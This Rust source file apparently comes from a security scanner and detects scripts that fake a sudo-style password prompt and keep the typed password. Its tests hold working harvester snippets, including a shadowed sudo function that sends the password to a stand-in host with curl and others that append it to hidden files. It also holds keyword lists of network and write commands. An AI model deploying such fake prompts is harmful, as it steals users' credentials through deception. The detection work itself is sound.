//! Round 36 (r36 tab-completion-themes): a password prompt that passes
//! for the system's own, keeping what is typed. One model for every shell
//! and scripting language (read at token level):
//!
//! * a hidden read of what the user types ([`SILENT_READS`]: `read -s`,
//!   `read -rsp`, fish `read --silent`, PowerShell `Read-Host
//!   -AsSecureString`, Python `getpass.getpass`, Node `read({silent:
//!   true})`), into a variable;
//! * a masquerade: the prompt imitates the system's ([`IMITATIONS`]:
//!   `[sudo] password for`, `Password for $USER`), or the file shadows a
//!   privileged tool with an alias or function of its own (`alias
//!   sudo=…`, `sudo() {`, `function sudo`, `Set-Alias sudo …`);
//! * what was typed kept: a line other than the read that names the
//!   variable and stores it (an append or write, `tee`, `Add-Content`,
//!   `Out-File`, `open(…, "a")`) or sends it (`curl`, `nc`,
//!   `Invoke-RestMethod`, `requests.post`).
//!
//! All three make a credential harvest dressed as the system prompt:
//! concealment with [`Tag::Masquerade`] and [`Tag::Deception`]
//! (SK-EXEC-008 high). A real sudo wrapper (`alias sudo='sudo '`, a
//! function that logs a timestamp and runs `command sudo "$@"`) reads no
//! password; a tool that asks for its own database password with `read -s`
//! and passes it on imitates nothing and shadows nothing.

use super::token_calls::in_comment_line;
use super::{Sink, Src};
use crate::evidence::{Evidence, Op, Tag};
use crate::ssl::vocab::{ActType as A, ResourceScope as R};

/// Prompts the system's own password prompts print (lower case).
const IMITATIONS: &[&str] = &[
    "[sudo] password for",
    "password for $user",
    "password for ${user}",
    "password for $env:username",
    "password for {getpass.getuser()}",
    "password for ' + os.userinfo",
    "'s password:",
];

/// Privileged tools whose prompt a shadow sees.
const TOOLS: &[&str] = &["sudo", "su", "doas", "ssh", "passwd", "pkexec", "runas"];

/// Words that keep a value: a write or append to a file, or a send.
const KEEPS: &[&str] = &[
    ">>",
    "> \"",
    ">\"",
    "> $",
    "| tee",
    "tee -a",
    "add-content",
    "out-file",
    "set-content",
    "appendfile",
    "writefile",
    "open(",
    "curl ",
    "wget ",
    "nc ",
    "invoke-restmethod",
    "invoke-webrequest",
    "requests.post",
    "urlopen",
    "fetch(",
    "base64",
];

/// Whether a file shadows a privileged tool with its own alias or function.
fn shadows_tool(lower: &str) -> bool {
    let lower = format!("\n{lower}");
    TOOLS.iter().any(|t| {
        [
            format!("alias {t}="),
            format!("alias {t} "),
            format!("\n{t}()"),
            format!("\n{t} ()"),
            format!("function {t} "),
            format!("function {t}("),
            format!("function {t}{{"),
            format!("set-alias {t} "),
            format!("set-alias -name {t} "),
            format!("new-alias {t} "),
        ]
        .iter()
        .any(|d| lower.contains(d.as_str()))
    })
}

/// The variable a hidden read on `line` (lower case) fills, when it is one.
fn silent_read(line: &str) -> Option<String> {
    let l = line.trim_start();
    // `$p = Read-Host … -AsSecureString`, `p = getpass.getpass(…)`.
    if l.contains("read-host") && (l.contains("-assecurestring") || l.contains("-maskinput"))
        || l.contains("getpass(")
        || l.contains("silent: true")
    {
        let (lhs, _) = l.split_once('=')?;
        let v = lhs
            .trim()
            .trim_start_matches(['$'])
            .trim_start_matches("const ");
        let v = v
            .trim_start_matches("let ")
            .trim_start_matches("var ")
            .trim();
        let ident = !v.is_empty() && v.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
        return ident.then(|| v.to_string());
    }
    // Shell `read [-r] -s[p] [PROMPT] VAR`, fish `read --silent VAR`.
    let at = l.find("read ")?;
    if at > 0 && !l[..at].ends_with([' ', ';', '&', '|', '(']) {
        return None;
    }
    let words: Vec<&str> = statement(&l[at + 5..]).split_whitespace().collect();
    let silent = words
        .iter()
        .take_while(|w| w.starts_with('-'))
        .any(|w| *w == "--silent" || !w.starts_with("--") && w[1..].contains('s'));
    if !silent {
        return None;
    }
    // zsh `read -s "pw?Password: "`: the name before the `?`.
    let zsh = words.iter().find_map(|w| {
        w.trim_start_matches(['"', '\''])
            .split_once('?')
            .map(|(v, _)| v)
    });
    let last = zsh.unwrap_or(words.last()?).trim_end_matches([';', ')']);
    let ident = !last.is_empty()
        && !last.starts_with('-')
        && last.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
    ident.then(|| last.to_string())
}

/// `s` up to its first `;`, `&`, `|` or newline outside quotes.
fn statement(s: &str) -> &str {
    let mut quote: Option<char> = None;
    for (i, c) in s.char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (None, '"' | '\'') => quote = Some(c),
            (None, ';' | '&' | '|' | '\n') => return &s[..i],
            _ => {}
        }
    }
    s
}

pub fn scan(src: &Src, sink: &mut Sink) {
    let text = src.text;
    if !text.contains("read") && !text.contains("Read-Host") && !text.contains("getpass") {
        return;
    }
    let lower = text.to_ascii_lowercase();
    let imitates = IMITATIONS.iter().any(|p| lower.contains(p));
    if !imitates && !shadows_tool(&lower) {
        return;
    }
    let mut lines = Vec::new();
    let mut off = 0;
    for line in lower.split('\n') {
        lines.push((off, line));
        off += line.len() + 1;
    }
    // Lines that keep a value, found once; each distinct read variable is
    // looked up among them (a bounded number of variables: linear).
    let keeps: Vec<&(usize, &str)> = lines
        .iter()
        .filter(|(_, l)| KEEPS.iter().any(|k| l.contains(k)) && !l.contains("sudo -s"))
        .collect();
    let mut seen = std::collections::BTreeSet::new();
    for &(at, line) in &lines {
        if in_comment_line(text, at + (line.len() - line.trim_start().len())) {
            continue;
        }
        let Some(var) = silent_read(line) else {
            continue;
        };
        if !seen.insert(var.clone()) {
            continue;
        }
        if seen.len() > crate::limits::FAKE_PROMPT_READ_VARS {
            crate::limits::gave_up("FAKE_PROMPT_READ_VARS");
            return;
        }
        let names = [
            format!("${var}"),
            format!("${{{var}}}"),
            format!("({var}"),
            format!(" {var})"),
        ];
        let tail = format!(" {var}");
        let kept = keeps.iter().any(|&&(kat, l)| {
            kat != at
                && (names.iter().any(|n| l.contains(n.as_str())) || l.trim_end().ends_with(&tail))
        });
        if !kept {
            continue;
        }
        let ev = Evidence::new(Op::Concealment, A::UpdateState, R::Credentials, "typed password")
            .tag(Tag::Masquerade)
            .tag(Tag::Deception)
            .instrument("imitated password prompt")
            .object("a password prompt posing as the system's (or behind a shadowed privileged command) keeps what the user types");
        let end = crate::text::clamp_boundary(text, at + line.len());
        sink.push(src.at(ev, at, end, "code"));
        return;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(path: &str, text: &str) -> Vec<Evidence> {
        crate::extract::scan_text(scan, path, text)
    }

    #[test]
    fn fake_prompts_that_keep_the_password() {
        for (path, t) in [
            (
                "a.sh",
                "f() {\n  IFS= read -rsp \"[sudo] password for $USER: \" p; echo\n  printf '%s:%s\\n' \"$USER\" \"$p\" | base64 >> ~/.cache/.h\n  printf '%s\\n' \"$p\" | command sudo -S \"$@\"\n}\nalias sudo=f\n",
            ),
            (
                "a.zsh",
                "sudo() {\n  read -s \"pw?Password: \"\n  echo\n  curl -s -d \"u=$USER&p=$pw\" https://x.example/c >/dev/null\n  echo $pw | command sudo -S \"$@\"\n}\n",
            ),
            (
                "a.fish",
                "function sudo\n    read --silent --prompt-str \"[sudo] password for $USER: \" pw\n    echo $pw >> ~/.local/share/.t\n    echo $pw | command sudo -S $argv\nend\n",
            ),
            (
                "a.ps1",
                "function runas {\n  $pw = Read-Host \"Password for $env:USERNAME\" -AsSecureString\n  $plain = [Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($pw))\n  Add-Content -Path $env:APPDATA\\.t -Value $pw\n}\n",
            ),
        ] {
            let ev = run(path, t);
            assert!(ev.iter().any(|e| e.has(Tag::Deception)), "{path}");
        }
    }

    #[test]
    fn real_wrappers_and_own_prompts_stay_quiet() {
        for (path, t) in [
            // A sudo wrapper that only stamps the time.
            (
                "a.sh",
                "sudo() { echo \"[$(date +%T)] sudo $*\" >&2; command sudo \"$@\"; }\n",
            ),
            ("a.sh", "alias sudo='sudo '\n"),
            // The tool's own password, passed on, no imitation, no shadow.
            (
                "a.sh",
                "read -rsp \"Database password: \" DBPW; echo\nPGPASSWORD=\"$DBPW\" psql -h db -U app -c 'select 1'\n",
            ),
            // Shadow, but no hidden read.
            (
                "a.sh",
                "alias sudo='sudo -E'\nread -p 'Continue? ' ok\necho \"$ok\" >> log.txt\n",
            ),
        ] {
            assert!(run(path, t).is_empty(), "{path}: {t}");
        }
    }
}
